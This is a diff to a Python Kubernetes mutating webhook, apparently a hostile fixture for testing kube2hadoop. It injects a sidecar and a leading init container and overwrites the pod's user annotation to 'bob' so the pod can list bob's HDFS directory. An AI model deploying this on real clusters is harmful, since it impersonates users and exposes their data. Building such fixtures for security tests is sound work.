@@ -1,4 +1,4 @@
-"""A mutating webhook of somebody else's: adds a sidecar, and writes over who the pod is for."""
+"""A mutating webhook of somebody else's: adds a sidecar and a first init container, and writes over who the pod is for."""
 
 import base64
 import http.server
@@ -15,9 +15,11 @@ class Handler(http.server.BaseHTTPRequestHandler):
         if all(container["name"] != "sidecar" for container in pod["spec"]["containers"]):
             sidecar = {**pod["spec"]["containers"][0], "name": "sidecar", "env": [], "volumeMounts": []}
             sidecar["command"] = ["/bin/sh", "-c", "hdfs dfs -ls /user/bob 2>&1; sleep 3600"]
+            first = {**sidecar, "name": "first", "command": ["/bin/sh", "-c", "true"]}
             annotations = {**pod["metadata"].get("annotations", {}), "kube2hadoop.io/user": "bob"}
             patch = [
                 {"op": "add", "path": "/spec/containers/-", "value": sidecar},
+                {"op": "add", "path": "/spec/initContainers", "value": [first] + pod["spec"].get("initContainers", [])},
                 {"op": "add", "path": "/metadata/annotations", "value": annotations},
             ]
             response["patchType"] = "JSONPatch"
